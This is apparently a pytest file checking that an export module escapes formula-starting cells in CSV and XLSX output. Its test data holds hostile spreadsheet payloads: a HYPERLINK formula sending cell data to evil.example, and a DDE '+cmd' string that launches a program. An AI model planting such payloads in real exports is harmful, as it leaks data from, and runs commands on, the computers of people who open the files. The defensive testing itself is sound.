"""Every file an export writes is safe to open in a spreadsheet program: a cell that
would start a formula is neutralised (OWASP CSV injection), numbers stay numbers."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from exports.registry import Table
from exports.writers import write_sheets

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open the report")'
TABLE = Table("pledges", ("code", "title", "percent"), lambda user: None, lambda obj: obj)
UPDATES = Table("progress_updates", ("pledge", "narrative"), lambda user: None, lambda o: o)


def _write(format: str, sheets) -> bytes:
    out = io.BytesIO()
    write_sheets(format, sheets, out)
    return out.getvalue()


def test_csv_cells_that_start_a_formula_get_a_quote():
    data = _write("csv", [(TABLE, iter([("GCM-P-00001", HYPERLINK, -3)]))])

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["code", "title", "percent"], ["GCM-P-00001", "'" + HYPERLINK, "-3"]]


def test_zipped_csv_cells_that_start_a_formula_get_a_quote():
    data = _write(
        "csv",
        [
            (TABLE, iter([("GCM-P-00001", "+cmd|' /C calc'!A0", 40)])),
            (UPDATES, iter([("GCM-P-00001", "\t=1+1")])),
        ],
    )

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        pledges = archive.read("pledges.csv").decode("utf-8-sig")
        updates = archive.read("progress_updates.csv").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(pledges)))[1][1] == "'+cmd|' /C calc'!A0"
    assert list(csv.reader(io.StringIO(updates)))[1][1] == "'\t=1+1"


def test_xlsx_cells_hold_text_not_formulas_and_numbers_stay_numbers():
    data = _write("xlsx", [(TABLE, iter([("GCM-P-00001", HYPERLINK, -3)]))])

    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    title, percent = sheet["B2"], sheet["C2"]
    assert title.data_type == "s"
    assert title.value == "'" + HYPERLINK
    assert percent.data_type == "n"
    assert percent.value == -3


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_header_row_is_written_as_declared(format):
    data = _write(format, [(TABLE, iter([]))])

    if format == "csv":
        assert data.decode("utf-8-sig").splitlines() == ["code,title,percent"]
    else:
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        assert [c.value for c in sheet[1]] == ["code", "title", "percent"]
